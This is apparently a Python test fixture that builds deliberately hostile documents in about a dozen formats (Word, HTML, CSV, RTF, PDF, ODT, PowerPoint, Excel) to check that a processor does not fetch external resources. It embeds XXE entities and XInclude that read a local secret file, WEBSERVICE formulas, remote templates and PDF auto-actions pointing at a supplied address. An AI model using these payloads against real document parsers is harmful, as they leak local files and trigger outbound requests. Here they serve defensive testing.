"""Documents that name addresses, each in every way its format has; all say `visible`."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import openpyxl
import pptx

from tests.hostile_documents import opendocument, pdf_of_objects, stream

_EXTERNAL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def documents(address: str, folder: Path) -> dict[str, bytes]:
    """Names and contents; `address` ends in a slash, `folder` holds `secret.txt`."""
    secret = (folder / "secret.txt").as_uri()
    entities = (
        f'<!DOCTYPE x SYSTEM "{address}x.dtd" [<!ENTITY % p SYSTEM "{address}p.dtd"> %p;'
        f'<!ENTITY s SYSTEM "{secret}"><!ENTITY r SYSTEM "{address}r">]>'
    )
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}i" parse="text"/>'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'
    )
    sheet = f'<?xml-stylesheet type="text/xsl" href="{address}s.xsl"?>'
    page = (
        f'<html><head><base href="{address}"><link rel="stylesheet" href="a.css">'
        f'<link rel="dns-prefetch" href="{address}">'
        f'<meta http-equiv="refresh" content="0;{address}">'
        f'<script src="{address}a.js"></script><style>@import "{address}b.css";</style></head>'
        f'<body background="{address}b.png"><p>visible</p><img src="{address}a.png" srcset="c.png">'
        f'<iframe src="{address}"></iframe><object data="{address}o"></object>'
        f'<embed src="{address}">'
        f'<video poster="{address}p"><source src="{address}v"></video>{include}'
        f'<svg><image href="{address}g.svg"/><use href="{address}u.svg#a"/></svg>'
        f'<form action="{address}"><input type="image" src="{address}i.png"></form></body></html>'
    )
    return {
        "template.docx": _word(address),
        "entity.docx": _with_part(
            _word(address),
            "word/document.xml",
            f"{sheet}{entities}<w:document xmlns:w='urn:w'><w:p><w:r><w:t>visible</w:t></w:r>"
            f"<w:r><w:t>A&s;&r;B</w:t></w:r></w:p>{include}</w:document>",
        ),
        "page.html": page.encode(),
        "page.xhtml": f"{sheet}{entities}{page.replace('visible', 'visible &r;&s;')}".encode(),
        "notes.md": (
            f"visible ![a]({address}a.png) [b]: {address}b\n\n<img src={address}c> ![d][b]\n"
        ).encode(),
        "rows.csv": f'visible,"=WEBSERVICE(""{address}w"")","=IMAGE(""{address}i"")"\n'.encode(),
        "data.xml": f"{sheet}{entities}<x>visible &r; &s; {include}</x>".encode(),
        "text.rtf": (
            r"{\rtf1\ansi{\*\template @t.dotx} visible {\field{\*\fldinst INCLUDEPICTURE "
            r'"@a.png"}}{\object\objlink{\*\objdata @}}}'.replace("@", address)
        ).encode(),
        "actions.pdf": _pdf(address.encode()),
        "links.odt": opendocument(
            (
                f"{sheet}{entities}<office:text xmlns:office='urn:o' xmlns:text='urn:t'"
                " xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:draw='urn:d'>"
                f"<text:p>visible &r;&s;<draw:image xlink:href='{address}a.png'"
                f" xlink:actuate='onLoad'/></text:p><text:section><text:section-source"
                f" xlink:href='{address}s.odt'/></text:section>{include}</office:text>"
            ).encode()
        ),
        "links.pptx": _slides(address),
        "links.xlsx": _workbook(address),
    }  # fmt: skip


def _saved(document: object) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)  # type: ignore[attr-defined]
    return buffer.getvalue()


def _with_part(content: bytes, path: str, part: str) -> bytes:
    """An office file with one of its parts put in place of another."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w") as target:
        for name in source.namelist():
            target.writestr(name, part if name == path else source.read(name))
        if path not in source.namelist():
            target.writestr(path, part)
    return buffer.getvalue()


def _word(address: str) -> bytes:
    document = docx.Document()
    document.add_paragraph("visible")
    for kind in ("image", "attachedTemplate", "hyperlink", "oleObject", "subDocument", "frame"):
        document.part.relate_to(f"{address}{kind}", f"{_EXTERNAL}{kind}", is_external=True)
    relation = (
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
        f"<Relationship Id='rId1' Type='{_EXTERNAL}attachedTemplate' Target='{address}t.dotm'"
        " TargetMode='External'/></Relationships>"
    )
    return _with_part(_saved(document), "word/_rels/settings.xml.rels", relation)


def _slides(address: str) -> bytes:
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = "visible"
    for kind in ("image", "video", "slide", "oleObject", "hyperlink"):
        slide.part.relate_to(f"{address}{kind}", f"{_EXTERNAL}{kind}", is_external=True)
    return _saved(deck)


def _workbook(address: str) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["visible", f'=WEBSERVICE("{address}w")', f"='[{address}b.xlsx]S'!A1"])
    book.active["A2"].hyperlink = f"{address}h"
    return _saved(book)


def _pdf(address: bytes) -> bytes:
    shown = b"BT /F1 12 Tf 20 400 Td (visible) Tj ET"
    return pdf_of_objects(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(%sopen)>>/AA<</WC 6 0 R>>"
        b"/Names<</JavaScript<</Names[(a)6 0 R]>>>>/AcroForm<</XFA 7 0 R/Fields[]>>>>" % address,
        b"<</Type/Pages/Count 1/Kids[5 0 R]>>",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        stream(shown),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 500 500]/Contents 4 0 R"
        b"/Resources<</Font<</F1 3 0 R>>/XObject<</X 8 0 R>>>>"
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(%sgo.pdf)/D[0]>>>>]>>"
        % address,
        b"<</S/SubmitForm/F<</FS/URL/F(%ssubmit)>>/Next<</S/JavaScript/JS(app.launchURL)>>>>"
        % address,
        stream(b"<x xmlns:i='http://www.w3.org/2001/XInclude' i:href='%s'/>" % address),
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(%simage)>>/Length 0>>"
        b"\nstream\n\nendstream" % address,
    )  # fmt: skip
